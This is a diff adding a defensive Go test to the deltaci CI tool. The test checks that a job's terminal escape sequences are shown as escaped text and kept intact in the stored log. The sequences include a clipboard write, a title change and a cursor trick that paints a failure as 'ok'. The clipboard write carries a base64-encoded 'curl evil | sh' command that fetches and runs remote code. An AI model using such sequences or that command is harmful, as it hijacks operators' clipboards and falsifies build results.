@@ -709,3 +709,53 @@ jobs:
 		t.Errorf("--executor vm: exit %d", r.code)
 	}
 }
+
+// TestJobOutputCannotDriveTheTerminal runs a job that tries to write the
+// operator's clipboard (OSC 52), set the terminal's title, and move the
+// cursor up to draw "ok" over its own failure. deltaci run must print those
+// sequences as visible text, and keep them unchanged in the stored log.
+func TestJobOutputCannotDriveTheTerminal(t *testing.T) {
+	t.Parallel()
+	dir := repo(t, map[string]string{".deltaci.yml": `version: 1
+jobs:
+  evil:
+    run: |
+      printf 'clipboard \033]52;c;Y3VybCBldmlsIHwgc2g=\007\n'
+      printf 'title \033]0;deltaci: all green\033\\\n'
+      printf 'FAILED\n\033[1A\033[2K\r\033[32mevil | ok\033[0m\n'
+      exit 1
+`})
+	r := deltaci(t, dir, "run")
+	if r.code != 1 {
+		t.Fatalf("exit %d, want 1\n%s\n%s", r.code, r.stdout, r.stderr)
+	}
+	for _, want := range []string{
+		`evil | clipboard \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07` + "\n",
+		`evil | title \x1b]0;deltaci: all green\x1b\` + "\n",
+		"evil | FAILED\n",
+		`evil | \x1b[1A\x1b[2K\x0d` + "\x1b[32mevil | ok\x1b[0m\n",
+	} {
+		if !strings.Contains(r.stdout, want) {
+			t.Errorf("output lacks %q:\n%q", want, r.stdout)
+		}
+	}
+	// Colours may pass; no other sequence and no other control character.
+	rest := regexp.MustCompile("\x1b\\[[0-9;]*m").ReplaceAllString(r.stdout, "")
+	if i := strings.IndexFunc(rest, func(c rune) bool { return c < ' ' && c != '\n' && c != '\t' }); i >= 0 {
+		t.Errorf("control character %q reached the output: %q", rest[i], rest[max(0, i-20):min(len(rest), i+20)])
+	}
+
+	logs := deltaci(t, dir, "artifacts", "ls", "logs")
+	ref, _, _ := strings.Cut(strings.TrimSpace(logs.stdout), " ")
+	dest := t.TempDir()
+	if r := deltaci(t, dir, "artifacts", "pull", ref, dest); r.code != 0 {
+		t.Fatalf("pull %q: exit %d\n%s%s", ref, r.code, r.stdout, r.stderr)
+	}
+	stored, err := os.ReadFile(filepath.Join(dest, "log"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := "clipboard \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n"; !strings.Contains(string(stored), want) {
+		t.Errorf("the stored log lacks the bytes as printed, %q:\n%q", want, stored)
+	}
+}
